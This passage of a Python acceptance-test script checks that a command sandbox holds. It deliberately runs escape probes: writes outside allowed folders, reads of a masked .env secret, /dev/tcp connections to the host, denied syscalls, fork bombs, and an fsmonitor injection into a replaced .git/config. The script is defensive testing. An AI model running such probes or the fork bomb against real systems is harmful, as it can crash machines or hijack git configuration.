#!/usr/bin/python3
"""acceptance.py — the sandbox's acceptance subset through the real `hands` binary and a real
MCP client over stdio (mcp_session.py), for the user running it and the machine it runs on.
scripts/vm-acceptance runs it inside QEMU VMs, one boot per cell; it runs on a host too.

    acceptance.py HANDS [--strict] [--no-userns | --container FLAGS]

Each check pairs with a positive control (the allowed neighbour works) and the canary outside
the roots (world-writable, so only the sandbox keeps it unchanged), and prints one line:
    CHECK <name> ok <what was seen>
    CHECK <name> FAIL <one-line reason>
then `ACCEPTANCE: N ok, M FAIL`. Exit 0 only when every check is ok.

Checks: probe (`hands doctor`: its self-test, and tmux's and git's versions read in a sandbox),
bash, write-outside, secret (.env masked), host-replaced (a `.git/config` the host replaced
by rename mid-run stays unwritable, decision 0079), loopback (a listener
on this machine's 127.0.0.1, outside the sandbox, gets no connection), seccomp (the denied system
calls fail with EPERM inside; outside, the controls among them work), orphans (a `setsid`
child ends with its command), forkbomb (bounded while
a second call answers), kill (`kill $$` ends with SIGTERM), tmux (start, send, read, kill),
casefold (as root where the kernel's tmpfs folds case, 6.13+: names a case-folding folder
hands over as `.envrc`, `.lfsconfig` and `.env`, decision 0094),
leftovers (no process, cgroup or mount left once the daemon is gone).
--strict: every new process, cgroup and mount counts as left behind (a quiet VM); without it,
only those naming this run's folder in their command line or working folder (a shared host).
--no-userns: user.max_user_namespaces is 0 (never set here, as on a shared machine that would
switch user namespaces off for everyone: vm-acceptance sets it in the VM before dropping to
the user, and scripts/without-userns gives this process a user namespace of its own where it
is 0): checks instead that `bash` and `tmux_start` are refused, nothing
runs, and the refusal and `hands doctor` name the remedy (user.max_user_namespaces); then, with
a second daemon in `sandbox.mode = "best-effort"`, that `bash` runs with Landlock and seccomp
alone and its result and `hands doctor` state the same tier, naming what is missing (best-effort),
and that the walls left hold as attacks: write-outside (a write inside works; writing or
creating outside is refused; a chmod outside is allowed only because the tier names it missing),
seccomp and orphans.
--container FLAGS: as --no-userns, in a container whose runtime forbids the namespaces (as
`docker run`/`podman run` start one; scripts/container-acceptance): the refusals and doctor
name FLAGS (the `run` flags that give the full tier), the initialize instructions name the
container, and best-effort's tier is the container tier (`container tier (RUNTIME): …`).
"""
import json
import os
import re
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time

sys.dont_write_bytecode = True  # no __pycache__ beside the script in the checkout
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from mcp_session import McpError, Result, Session  # noqa: E402

CANARY = "canary: must stay unchanged\n"
CALL_TIMEOUT = 240.0  # software-emulated VMs are slow; a hang still fails


class Run:
    def __init__(self, hands, strict, no_userns=False):
        self.hands = hands
        self.strict = strict
        self.mark = secrets.token_hex(4)
        # Root's commands run as another user; without namespaces nothing recreates a closed
        # parent folder (root's home, mode 700) for them, so that row works under /tmp.
        where = "/tmp" if no_userns and os.getuid() == 0 else os.environ.get("HOME") or "/tmp"
        self.base = tempfile.mkdtemp(prefix="hands-acc.", dir=where)
        os.chmod(self.base, 0o755)
        self.proj = os.path.join(self.base, "proj")
        self.outside = os.path.join(self.base, "outside")
        # The state folder sits in a closed one (mode 700, as a root daemon's under /root/.local
        # does): commands as run_as must never need to reach it.
        self.state = os.path.join(self.base, "closed", "state")
        for d in (self.proj, self.outside, os.path.dirname(self.state), self.state):
            os.mkdir(d)
        os.chmod(os.path.dirname(self.state), 0o700)
        # World-writable outside folder and canary: only the sandbox keeps them unchanged
        # (a root daemon's commands run as another user, whom file modes would stop too).
        os.chmod(self.outside, 0o777)
        self.canary = os.path.join(self.outside, "canary.txt")
        with open(self.canary, "w") as f:
            f.write(CANARY)
        os.chmod(self.canary, 0o666)
        os.chmod(self.proj, 0o777)
        self.secret = f"hands-acc-secret-{self.mark}"
        with open(os.path.join(self.proj, ".env"), "w") as f:
            f.write(f"API_TOKEN={self.secret}\n")
        os.chmod(os.path.join(self.proj, ".env"), 0o644)
        with open(os.path.join(self.proj, "README.txt"), "w") as f:
            f.write(f"readme-visible-{self.mark}\n")
        os.chmod(os.path.join(self.proj, "README.txt"), 0o644)
        if os.getuid() == 0:
            # A root daemon runs commands as the project's owner, `nobody` when that is root,
            # and binds a root-owned project id-mapped; the VMs' /root and /tmp are overlays
            # over 9p and tmpfs, which cannot be id-mapped on these kernels (a refusal the
            # suite's suite::idmap covers): the project is nobody's, as a build box's would be
            # its user's.
            for p in (self.proj, os.path.join(self.proj, ".env"),
                      os.path.join(self.proj, "README.txt")):
                os.chown(p, 65534, 65534)
        self.config = os.path.join(self.base, "daemon.toml")
        self.write_config("enforce")
        self.env = dict(os.environ, XDG_STATE_HOME=self.state, RUST_LOG="warn")
        self.results = []
        self.session = None
        self.best_effort_tier = None  # set by check_best_effort
        self.fold = None  # a case-folding folder of the project (fold_folder), as root
        self.container = None  # --container's flags
        # What refusals must name: the container's `run` flags, or the machine's sysctl.
        self.remedy = "max_user_namespaces"
        self.clock = time.time()

    def write_config(self, mode):
        with open(self.config, "w") as f:
            f.write(f"""[daemon]
state_dir = "{self.state}"

[sandbox]
mode = "{mode}"

[trust]
external = "allow"

[[builtins]]
id = "tools-shell"
grants = ["filesystem", "spawn"]
filesystem = [{{ path = "{self.proj}", write = true }}]
[builtins.config]
limits = {{ processes = 128, memory_mb = 1024 }}
""")

    # --- reporting -------------------------------------------------------------------------

    def report(self, name, ok, detail):
        detail = " ".join(str(detail).split())[:240]
        if ok:
            canary = self.canary_problem()
            if canary:
                ok, detail = False, canary
        self.results.append((name, ok))
        took = time.time() - self.clock
        self.clock = time.time()
        print(f"CHECK {name} {'ok' if ok else 'FAIL'} {detail} ({took:.1f} s)", flush=True)

    def canary_problem(self):
        try:
            with open(self.canary) as f:
                if f.read() != CANARY:
                    return "the canary outside the roots changed"
        except OSError as e:
            return f"the canary outside the roots is gone ({e})"
        extra = sorted(set(os.listdir(self.outside)) - {"canary.txt"})
        return f"created outside the roots: {extra}" if extra else None

    # --- the daemon ------------------------------------------------------------------------

    def start(self):
        self.session = Session([self.hands, "serve", "--config", self.config], env=self.env,
                               cwd=self.proj, timeout=CALL_TIMEOUT, preexec_fn=scoped())
        self.session.initialize()

    def bash(self, command, timeout_secs=None):
        args = {"command": command}
        if timeout_secs:
            args["timeout_secs"] = timeout_secs
        return self.session.call("bash", args)


def first_line(text):
    for line in (text or "").splitlines():
        if line.strip():
            return line.strip()
    return "(no text)"


def outcome(r):
    """What a bash result says, for a failure's reason."""
    s = r.structured
    if r.is_error:
        m = re.search(r"guarantees missing: ([^;]*)", r.text)
        if m:
            return f"refused (enforce), missing: {m.group(1)}"
        return first_line(r.text) if r.text.startswith("refused") else f"error: {first_line(r.text)}"
    return (f"exit {s.get('exit_code')} signal {s.get('signal')} containment "
            f"{s.get('containment')} stdout {s.get('stdout', '')[:80]!r} "
            f"stderr {s.get('stderr', '')[:80]!r}")


# --- what is left behind ------------------------------------------------------------------

def processes():
    """pid -> (uid, state, cmdline) of every user-space process (kernel threads have none)."""
    out = {}
    for p in os.listdir("/proc"):
        if not p.isdigit():
            continue
        try:
            with open(f"/proc/{p}/cmdline", "rb") as f:
                cmd = f.read().replace(b"\0", b" ").decode(errors="replace").strip()
            with open(f"/proc/{p}/status") as f:
                st = f.read()
        except OSError:
            continue
        if not cmd:
            continue
        uid = re.search(r"^Uid:\s+(\d+)", st, re.M)
        state = re.search(r"^State:\s+(\S)", st, re.M)
        try:
            cwd = os.readlink(f"/proc/{p}/cwd")
        except OSError:
            cwd = ""
        out[int(p)] = (uid.group(1) if uid else "?", state.group(1) if state else "?",
                       f"{cmd} (cwd {cwd})" if cwd else cmd)
    return out


def cgroups():
    found = set()
    for top, dirs, _ in os.walk("/sys/fs/cgroup"):
        for d in dirs:
            found.add(os.path.join(top, d))
    return found


def daemon_placement(path):
    """The leaf a daemon moves itself into (`hands-daemon`, cgroup v2's no-internal-processes
    rule) stays after it exits, for the next daemon of that cgroup; systemd removes it with the
    scope. Only an empty one is not a leftover: a process in it, or any `hands-<pid>` leaf of a
    command, still is."""
    if os.path.basename(path) != "hands-daemon":
        return False
    try:
        with open(os.path.join(path, "cgroup.procs")) as f:
            return f.read().strip() == ""
    except OSError:
        return False


class Scopes:
    """In a delegated cgroup v2 (a `systemd-run --user --scope -p Delegate=yes` or a user
    service's), each `hands` process starts in a cgroup of its own, as `systemd-run --user
    --scope hands serve` would give it: cgroup v2's no-internal-processes rule lets a daemon
    make its commands' leaves only where no other process (this script) shares its cgroup, and
    otherwise it passes over cgroup v2 for RLIMIT_NPROC. This script moves into `acc-runner/`
    of its cgroup; the scopes are `acc-hands-N/`, removed when their process has ended (with
    the daemon's own `hands-daemon` leaf, which may stay by design): a command's leaf left
    inside keeps one, and the leftovers check sees it. Elsewhere (the root cgroup, a
    root-owned session scope, cgroup v1) nothing changes."""

    def __init__(self):
        self.own, self.made = None, []
        line = open("/proc/self/cgroup").read().strip().splitlines()[-1]
        if not line.startswith("0::") or line[3:].strip("/") == "":
            return
        own = os.path.join("/sys/fs/cgroup", line[3:].strip("/"))
        if not os.access(os.path.join(own, "cgroup.subtree_control"), os.W_OK):
            return
        runner = os.path.join(own, "acc-runner")
        try:
            os.makedirs(runner, exist_ok=True)
            for pid in open(os.path.join(own, "cgroup.procs")).read().split():
                try:
                    with open(os.path.join(runner, "cgroup.procs"), "w") as f:
                        f.write(pid)
                except OSError:
                    pass  # a process that ended meanwhile
            have = open(os.path.join(own, "cgroup.controllers")).read().split()
            with open(os.path.join(own, "cgroup.subtree_control"), "w") as f:
                f.write(" ".join(f"+{c}" for c in ("pids", "memory") if c in have))
        except OSError as e:
            print(f"acceptance: no scopes of their own in {own}: {e}", flush=True)
            return
        self.own = own

    def describe(self):
        return f"each hands process in a cgroup of its own under {self.own}" if self.own else None

    def preexec(self):
        """A preexec_fn that puts the child into a new scope, or None."""
        if not self.own:
            return None
        scope = os.path.join(self.own, f"acc-hands-{len(self.made)}")
        os.mkdir(scope)
        self.made.append(scope)
        procs = os.path.join(scope, "cgroup.procs")

        def into():
            with open(procs, "w") as f:
                f.write("0")
        return into

    def remove(self):
        """Removes the scopes whose processes have ended; what cannot be removed stays (and
        the leftovers check names it)."""
        for scope in list(self.made):
            leaf = os.path.join(scope, "hands-daemon")
            for d in (leaf, scope):
                try:
                    os.rmdir(d)
                except FileNotFoundError:
                    pass
                except OSError:
                    break
            if not os.path.exists(scope):
                self.made.remove(scope)


SCOPES = None  # the run's Scopes, made first in main()


def scoped():
    return SCOPES.preexec() if SCOPES else None


def mounts():
    with open("/proc/self/mountinfo") as f:
        return {" ".join(line.split()[3:5]) for line in f}


class Snapshot:
    def __init__(self, run):
        self.run = run
        self.procs = set(processes())
        self.cgroups = cgroups()
        self.mounts = mounts()

    def relevant(self, text):
        return self.run.strict or self.run.base in text

    def left(self):
        """What exists now and did not before: (processes, cgroups, mounts), one line each."""
        now = processes()
        procs = [f"{pid} {v[1]} uid {v[0]} {v[2][:60]!r}" for pid, v in sorted(now.items())
                 if pid not in self.procs and pid != os.getpid() and self.relevant(v[2])]
        cg = sorted(c for c in cgroups() - self.cgroups
                    if self.relevant(c) and not daemon_placement(c))
        mnt = sorted(m for m in mounts() - self.mounts if self.relevant(m))
        return procs, cg, mnt


def describe(procs, cg, mnt):
    parts = []
    for what, items in (("processes", procs), ("cgroups", cg), ("mounts", mnt)):
        if items:
            parts.append(f"{len(items)} {what}: {'; '.join(items[:3])}")
    return " | ".join(parts)


# --- the checks ---------------------------------------------------------------------------

def versions_read(out):
    """Whether doctor read tmux's version (and git's, when git is on its PATH): the version
    flags run through the launcher, in a sandbox of their own, without namespaces where none
    can be made (decision 0052). (ok, what to report)."""
    lines = dict(re.findall(r"^  (tmux|git): (.*)$", out, re.M))
    tmux, git = lines.get("tmux", ""), lines.get("git", "")
    ok = tmux.startswith("tmux ") and not git.startswith("version not read")
    return ok, (f"versions read: {tmux.split(' (')[0]}, {git.split(' (')[0] or 'no git line'}"
                if ok else f"versions not read: tmux: {tmux or '-'}; git: {git or '-'}")


def check_probe(run, refusing):
    try:
        p = subprocess.run([run.hands, "doctor", "--config", run.config], cwd=run.proj,
                           env=run.env, capture_output=True, text=True, timeout=600,
                       preexec_fn=scoped())
    except subprocess.TimeoutExpired:
        return run.report("probe", False, "hands doctor did not finish in 600 s")
    out = p.stdout + p.stderr
    tier = re.search(r"sandbox self-test: (.*)", out)
    tier = tier.group(1).strip() if tier else None
    missing = [line.strip() for line in out.splitlines()
               if re.search(r"\bMISSING\b|\bmissing\b", line) and "warnings" not in line]
    if refusing:
        # The missing wall is named, with this machine's remedy.
        read, said = versions_read(out)
        ok = p.returncode != 0 and run.remedy in out and read
        why = (f"doctor exit {p.returncode}, tier {tier!r}: "
               + (missing[0] if missing else first_line(out)) + f"; {said}")
        return run.report("probe", ok, why if ok else f"no refusal naming {run.remedy}: {why}")
    if tier is None:
        return run.report("probe", False, f"no self-test in doctor's output (exit "
                          f"{p.returncode}): {(p.stderr or p.stdout).strip()[-200:]}")
    rows = [line for line in missing if "MISSING" in line]
    table = "write outside the roots" in out
    read, said = versions_read(out)
    ok = p.returncode == 0 and tier.startswith("full") and not missing and table and read
    if SCOPES and SCOPES.own and "cgroup v2" not in tier:
        # A daemon alone in a delegated cgroup bounds its commands with cgroup v2 leaves.
        ok, said = False, f"{said}; alone in a delegated cgroup, yet no cgroup v2 bound"
    run.report("probe", ok, f"self-test: {tier}; {said}" if ok else
               f"exit {p.returncode}, self-test {tier!r}"
               + (f": {rows[0]}" if rows else "" if table else "; no table of walls")
               + f"; {said}")


def check_bash(run):
    r = run.bash("echo hi; id -u; pwd")
    s = r.structured
    ok = (not r.is_error and s.get("stdout", "").startswith("hi\n")
          and s.get("exit_code") == 0 and str(s.get("containment", "")).startswith("full"))
    run.report("bash", ok, f"uid {s.get('stdout', '').split()[1:2]} containment "
               f"{s.get('containment')!r}" if ok else outcome(r))
    return not r.is_error


def check_write_outside(run):
    """After check_best_effort (`run.best_effort_tier`), without namespaces, where Landlock does
    not restrict chmod: a chmod outside is then allowed only when the tier names "chmod outside
    the roots" missing (and the canary's mode is put back for the checks after)."""
    tier = run.best_effort_tier
    # Positive control: the canary is writable outside the sandbox (mode 666), so a refusal
    # can only come from the sandbox.
    if not os.access(run.canary, os.W_OK):
        return run.report("write-outside", False, "control: the canary is not writable here")
    r = run.bash(f"echo inside-{run.mark} > inside.txt && echo wrote-inside; "
                 f"echo x > {run.canary} 2>/dev/null && echo CANARY-WRITTEN; "
                 f"echo x > {run.outside}/new.txt 2>/dev/null && echo OUTSIDE-CREATED; "
                 f"chmod 600 {run.canary} 2>/dev/null && echo CANARY-CHMOD; true")
    out = r.structured.get("stdout", "")
    try:
        inside = open(os.path.join(run.proj, "inside.txt")).read()
    except OSError:
        inside = ""
    mode = os.stat(run.canary).st_mode & 0o777
    bad = [w for w in ("CANARY-WRITTEN", "OUTSIDE-CREATED", "CANARY-CHMOD") if w in out]
    if mode != 0o666:
        bad.append(f"canary mode now {mode:o}")
    said = ""
    if tier is not None and "chmod outside the roots" in tier and "missing" in tier:
        chmod = [b for b in bad if b == "CANARY-CHMOD" or b.startswith("canary mode")]
        bad = [b for b in bad if b not in chmod]
        os.chmod(run.canary, 0o666)
        said = (" (chmod outside went through, as the tier says: chmod outside the roots is "
                "missing)" if chmod else " (chmod outside refused too)")
    ok = not r.is_error and "wrote-inside" in out and inside == f"inside-{run.mark}\n" and not bad
    run.report("write-outside", ok, ("write and create outside refused; the root took its write"
               + said if tier is not None else "write, create and chmod outside refused; the "
               "root took its write") if ok else (f"escaped: {bad}" if bad else outcome(r)))


def check_secret(run):
    r = run.bash("cat README.txt; cat .env 2>&1; grep -rs hands-acc-secret . | head -1; true")
    s = r.structured
    seen = s.get("stdout", "") + s.get("stderr", "") + r.text
    host = open(os.path.join(run.proj, ".env")).read()
    ok = (not r.is_error and f"readme-visible-{run.mark}" in seen and run.secret not in seen
          and run.secret in host)
    run.report("secret", ok, ".env read empty, README.txt beside it read" if ok else
               ("the secret was read" if run.secret in seen else outcome(r)))


def check_host_replaced(run):
    """A protected file the host replaces by rename while a command runs (git's `config.lock`
    renamed onto `.git/config`, as `git config` does) takes the read-only bind with it in every
    mount namespace; the command's write to the new file must still be refused (decision
    0079). The command waits for the host's rename, then appends a program to `.git/config`
    (`>>`, and `dd` opening it without O_CREAT).
    Positive control: a plain file the host replaced the same way takes the command's write.
    Every file is mode 666 (and the project's owner's): only the sandbox can refuse."""
    repo = os.path.join(run.proj, "repo")
    git = os.path.join(repo, ".git")
    config, plain = os.path.join(git, "config"), os.path.join(repo, "plain.txt")
    ready, go = (os.path.join(run.proj, f"{w}-{run.mark}") for w in ("ready", "go"))
    owned = []
    for d in (repo, git, os.path.join(git, "objects"), os.path.join(git, "refs")):
        os.makedirs(d, exist_ok=True)
        os.chmod(d, 0o777)
        owned.append(d)
    def put(path, text):
        with open(path, "w") as f:
            f.write(text)
        os.chmod(path, 0o666)
        if os.getuid() == 0:
            os.chown(path, 65534, 65534)
    put(os.path.join(git, "HEAD"), "ref: refs/heads/main\n")
    put(config, "[core]\n\trepositoryformatversion = 0\n")
    put(plain, "plain\n")
    if os.getuid() == 0:
        for d in owned:
            os.chown(d, 65534, 65534)
    person = f"# the person's change {run.mark}"
    def host():
        deadline = time.time() + 60
        while not os.path.exists(ready) and time.time() < deadline:
            time.sleep(0.02)
        put(config + ".lock", f"[core]\n\trepositoryformatversion = 0\n{person}\n")
        os.rename(config + ".lock", config)
        put(plain + ".new", "plain, saved again\n")
        os.rename(plain + ".new", plain)
        open(go, "w").close()
    t = threading.Thread(target=host, daemon=True)
    t.start()
    r = run.bash(f"touch {ready}; i=0; while [ ! -e {go} ] && [ $i -lt 1200 ]; do sleep 0.05; "
                 f"i=$((i+1)); done; [ -e {go} ] && echo HOST-DONE; "
                 f"printf '[core]\\n\\tfsmonitor = /bin/false-{run.mark}\\n' >> "
                 f"repo/.git/config && echo CONFIG-WRITTEN; "
                 # Opened for writing without O_CREAT (the exploit of decision 0079: no name is
                 # made, so only the check of the file the open reached refuses it).
                 f"printf '[core]\\n\\tfsmonitor = /bin/false-{run.mark}\\n' | dd "
                 f"of=repo/.git/config conv=nocreat,notrunc oflag=append status=none "
                 f"&& echo CONFIG-WRITTEN; "
                 f"echo plain-{run.mark} >> repo/plain.txt && echo PLAIN-WRITTEN; true",
                 timeout_secs=120)
    t.join(5)
    s = r.structured
    out, err = s.get("stdout", ""), s.get("stderr", "")
    now, plain_now = open(config).read(), open(plain).read()
    bad = []
    if "CONFIG-WRITTEN" in out or "fsmonitor" in now:
        bad.append("the replaced .git/config took the command's write")
    if person not in now:
        bad.append("the person's change is not in .git/config")
    control = "HOST-DONE" in out and "PLAIN-WRITTEN" in out and f"plain-{run.mark}" in plain_now
    said = "hands sandbox: refused" in err and ".git/config" in err
    ok = not r.is_error and not bad and control and said
    run.report("host-replaced", ok, "the replaced .git/config refused, saying so; the replaced "
               "plain file took the write" if ok else (f"{bad}" if bad else
               f"control or refusal text missing: {outcome(r)}"))


def check_loopback(run):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    port = listener.getsockname()[1]
    accepted = []

    def serve():
        while True:
            try:
                c, _ = listener.accept()
            except OSError:
                return
            accepted.append(1)
            c.close()
    threading.Thread(target=serve, daemon=True).start()
    # Positive control outside: the listener takes a connection from this machine.
    socket.create_connection(("127.0.0.1", port), timeout=5).close()
    deadline = time.time() + 5
    while not accepted and time.time() < deadline:
        time.sleep(0.05)
    if not accepted:
        listener.close()
        return run.report("loopback", False, "control: the listener took no connection from outside")
    accepted.clear()
    inner = ("import socket;s=socket.socket();s.bind(('127.0.0.1',0));s.listen(1);"
             "socket.create_connection(s.getsockname(),timeout=5).close();print('inner-ok')")
    r = run.bash(f"timeout 10 bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}' 2>/dev/null "
                 f"&& echo HOST-REACHED || echo host-unreachable; python3 -c \"{inner}\"")
    time.sleep(0.5)
    listener.close()
    out = r.structured.get("stdout", "")
    ok = (not r.is_error and "host-unreachable" in out and "inner-ok" in out
          and "HOST-REACHED" not in out and not accepted)
    run.report("loopback", ok, f"127.0.0.1:{port} unreachable; the sandbox's own loopback works"
               if ok else (f"the host listener got {len(accepted)} connection(s)" if accepted
                           else outcome(r)))


# x86_64 numbers of calls the launcher's seccomp filter denies, with arguments harmless when
# the call does go through; `control` marks those that work outside a sandbox (the positive
# control: there they do not fail with EPERM).
SECCOMP_PY = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
inside = sys.argv[1] == "inside"
every = sys.argv[1] == "outside-all"  # the controls a container's own filter may deny too
buf = ctypes.create_string_buffer(8)
iov = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 8)
calls = [  # name, number, args, control
    ("process_vm_readv", 310, (os.getpid(), ctypes.addressof(iov), 1, ctypes.addressof(iov), 1, 0), True),
    ("keyctl", 250, (0, -3, 0), True),  # KEYCTL_GET_KEYRING_ID of the session keyring
    ("ptrace", 101, (0x4206, 0, 0, 0), False),  # PTRACE_SEIZE of pid 0: ESRCH when let through
    ("io_uring_setup", 425, (0, 0), False), ("bpf", 321, (0, 0, 0), False),
    ("perf_event_open", 298, (0, 0, -1, -1, 0), False), ("userfaultfd", 323, (0xffffffff,), False),
    ("add_key", 248, (0, 0, 0, 0, 0), False), ("mount", 165, (0, 0, 0, 0, 0), False),
    ("umount2", 166, (0, 0), False), ("pivot_root", 155, (0, 0), False),
    ("setns", 308, (-1, 0), False), ("kexec_load", 246, (0, 0, 0, 0), False),
    ("init_module", 175, (0, 0, 0), False), ("open_by_handle_at", 304, (-1, 0, 0), False),
    ("chroot", 161, (0,), False), ("socket(AF_VSOCK)", 41, (40, 1, 0), False),
    ("socket(AF_PACKET)", 41, (17, 3, 0), False),
]
if inside:
    calls += [("unshare(CLONE_NEWUSER)", 272, (0x10000000,), False),
              ("clone(CLONE_NEWNS)", 56, (0x20000 | 17, 0, 0, 0, 0), False)]
seen = {}
for name, nr, args, control in calls:
    if not inside and not control and not every:
        continue
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    if r == 0 and name.startswith("clone"):
        os._exit(0)  # a child the filter let through
    if r > 0 and name.startswith("clone"):
        os.waitpid(r, 0)
    err = ctypes.get_errno() if r < 0 else 0
    seen[name] = "EPERM" if r < 0 and err == 1 else ("ok" if r >= 0 else os.strerror(err))
print("SECCOMP " + " ".join(f"{k}={v.replace(' ', '_')}" for k, v in seen.items()))
"""


def check_seccomp(run):
    path = os.path.join(run.proj, "seccomp_calls.py")
    with open(path, "w") as f:
        f.write(SECCOMP_PY)
    os.chmod(path, 0o644)

    def parse(text):
        line = next((x for x in text.splitlines() if x.startswith("SECCOMP ")), "")
        return dict(kv.split("=", 1) for kv in line.split()[1:])
    # Positive control, outside the sandbox as the same user: these calls work. A container's
    # own filter denies some of them (Docker's: process_vm_readv, keyctl): there the controls
    # are every call the container lets through, and there must be a few.
    ctl = subprocess.run([sys.executable, path, "outside-all" if run.container else "outside"],
                         capture_output=True, text=True, cwd=run.proj, timeout=60)
    control = parse(ctl.stdout)
    if run.container:
        control = {k: v for k, v in control.items() if v != "EPERM"}
    if len(control) < 2 or any(v == "EPERM" for v in control.values()):
        return run.report("seccomp", False, f"control: outside the sandbox {control or ctl.stderr[-200:]}"
                          " (the control calls should not fail with EPERM there)")
    r = run.bash("python3 seccomp_calls.py inside")
    seen = parse(r.structured.get("stdout", ""))
    let_through = {k: v for k, v in seen.items() if v != "EPERM"}
    ok = not r.is_error and len(seen) >= 20 and not let_through
    run.report("seccomp", ok, f"{len(seen)} denied calls failed with EPERM inside (outside: "
               f"{', '.join(f'{k} {v}' for k, v in control.items())})" if ok else
               (f"let through: {let_through}" if let_through else outcome(r)))


def check_best_effort(run):
    """The second daemon, in best-effort where no user namespace can be made: doctor and a
    bash result state the same tier, which names the missing guarantees (kept for the checks
    after it)."""
    p = subprocess.run([run.hands, "doctor", "--config", run.config], cwd=run.proj,
                       env=run.env, capture_output=True, text=True, timeout=600,
                       preexec_fn=scoped())
    out = p.stdout + p.stderr
    m = re.search(r"sandbox self-test: (.*)", out)
    tier = m.group(1).strip() if m else ""
    rows = [line.split()[0:6] for line in out.splitlines() if " MISSING " in line]
    # The home and TMPDIR are the command's to write (a root daemon's run_as user included).
    r = run.bash('echo hi; cd ~ && touch ~/.acc "$TMPDIR/acc" && echo home-writable')
    s = r.structured
    result_tier = str(s.get("containment", ""))
    must = ("no namespaces", "read a masked path", "protected paths read-only",
            "host unix sockets hidden")
    named = "container tier (" if run.container else "partial (missing: "
    ok = (p.returncode == 0 and not r.is_error and s.get("stdout", "") == "hi\nhome-writable\n"
          and s.get("exit_code") == 0 and tier.startswith(named)
          and result_tier == tier and all(w in tier for w in must) and rows)
    if run.container and run.remedy not in out:
        ok, tier = False, f"{tier}; doctor does not name {run.remedy}"
    if run.container and "container tier" not in run.session.instructions:
        ok, tier = False, f"{tier}; initialize's instructions do not name the container tier"
    # Without namespaces RLIMIT_NPROC would count every process of the uid, so it is not set:
    # doctor must not name it as the bound.
    bound = re.search(r"process bound: (.*)", out)
    bound = bound.group(1).strip() if bound else "(no process bound line)"
    if "RLIMIT_NPROC in the user namespace" in bound or bound.startswith("(no"):
        ok = False
        tier = f"{tier}; doctor's process bound: {bound}"
    run.best_effort_tier = tier
    missing = re.search(r"missing: ([^;]*)", tier)
    run.report("best-effort", ok, f"bash ran; result and doctor: missing {missing.group(1)}"
               if ok and missing else f"doctor exit {p.returncode}, tier {tier!r}; bash: "
               f"{outcome(r)}; result tier {result_tier[:80]!r}")


def check_orphans(run):
    """What a command leaves running ends with it, outside its process group too: a `setsid`
    child of a shell that has exited keeps writing a heartbeat into the project; once the call
    has answered the heartbeat must stop and no process of it be left (without namespaces there
    is no PID namespace's init to end it)."""
    beat = os.path.join(run.proj, f"beat-{run.mark}")
    # Each beat is written beside and renamed over the last, so the file is never seen empty:
    # `date > beat` truncates it first, and under software emulation the final `test -s` fell
    # into that window about one run in fifteen (the heartbeat running all along).
    r = run.bash(f"setsid sh -c 'while :; do date +%s%N > {beat}.t && mv -f {beat}.t {beat}; "
                 f"sleep 0.05; done # {run.mark}' </dev/null >/dev/null 2>&1 & "
                 f"for i in $(seq 100); do test -s {beat} && break; sleep 0.1; done; "
                 f"test -s {beat} && echo beating")
    beating = r.structured.get("stdout", "") == "beating\n"
    time.sleep(0.3)
    first = open(beat).read() if os.path.exists(beat) else ""
    time.sleep(1)
    second = open(beat).read() if os.path.exists(beat) else ""
    left = [v[2][:60] for v in processes().values() if run.mark in v[2] and v[1] != "Z"]
    ok = not r.is_error and beating and first == second and not left
    run.report("orphans", ok, "a setsid child of the command ended with it (heartbeat stopped, "
               "no process left)" if ok else
               f"left running: {left[:2]}" if left else
               "the heartbeat went on after the answer" if first != second else
               f"the heartbeat never started: {outcome(r)}")


def check_forkbomb(run):
    code = ("import os,time\n"
            "n=0;err=''\n"
            "try:\n"
            "  while n<3000:\n"
            "    if os.fork()==0:\n"
            f"      time.sleep(30); os._exit(0) # {run.mark}\n"
            "    n+=1\n"
            "except OSError as e: err=e.strerror\n"
            "print(('bounded at %d: %s' % (n, err)) if err else ('UNBOUNDED %d' % n), flush=True)\n"
            "open('bomb-count','w').write(str(n))\n"
            "time.sleep(6)\n")
    with open(os.path.join(run.proj, "bomb.py"), "w") as f:
        f.write(code)
    s = run.session
    a = s.start_call("bash", {"command": "python3 bomb.py", "timeout_secs": 120})
    count = os.path.join(run.proj, "bomb-count")
    deadline = time.time() + 120
    while not os.path.exists(count) and time.time() < deadline:
        with s.lock:
            if a in s.answers or s.closed:
                break  # answered (refused, or ended) without saturating
        time.sleep(0.2)
    saturated = os.path.exists(count)
    t0 = time.time()
    try:
        b = s.call("bash", {"command": "echo alive"}, timeout=120)
        alive = b.structured.get("stdout") == "alive\n"
        b_why = outcome(b)
    except McpError as e:
        alive, b_why = False, f"the second call: {e}"
    latency = time.time() - t0
    try:
        ra = Result(s.wait(a, timeout=180))
        out = ra.structured.get("stdout", "")
        a_text = first_line(out) if out and not ra.is_error else outcome(ra)
    except McpError as e:
        out, a_text = "", f"the bomb call: {e}"
    m = re.search(r"bounded at (\d+)", out)
    bounded = m is not None and int(m.group(1)) < 3000
    if not bounded:
        return run.report("forkbomb", False, f"not bounded: {a_text}")
    # The recursive bomb, only once the counted one showed a bound.
    c = s.start_call("bash", {"command": ":(){ :|:& };:; sleep 8", "timeout_secs": 8})
    time.sleep(3)
    try:
        d = s.call("bash", {"command": "echo alive2"}, timeout=120)
        alive2 = d.structured.get("stdout") == "alive2\n"
    except McpError as e:
        alive2, b_why = False, f"the call during the recursive bomb: {e}"
    try:
        s.wait(c, timeout=180)
        c_ok = True
    except McpError as e:
        c_ok, b_why = False, f"the recursive bomb call: {e}"
    time.sleep(1)
    left = [v[2][:60] for v in processes().values() if run.mark in v[2]]
    ok = saturated and alive and alive2 and c_ok and not left
    run.report("forkbomb", ok, f"{a_text}; a second call answered in {latency:.2f} s" if ok
               else (f"bomb processes left: {left[:2]}" if left else
                     f"{a_text}; daemon answers: {b_why}"))


def check_kill(run):
    r = run.bash("echo before; kill $$; echo after")
    s = r.structured
    out = s.get("stdout", "")
    ok = not r.is_error and "before" in out and "after" not in out and s.get("signal") == 15
    why = outcome(r) if r.is_error else (
        f"kill $$ did not end it with SIGTERM: exit {s.get('exit_code')}, signal "
        f"{s.get('signal')}{', echo after ran' if 'after' in out else ''}")
    run.report("kill", ok, "kill $$ ended the command with SIGTERM (15); echo before ran"
               if ok else why)


def check_tmux(run, tier="full"):
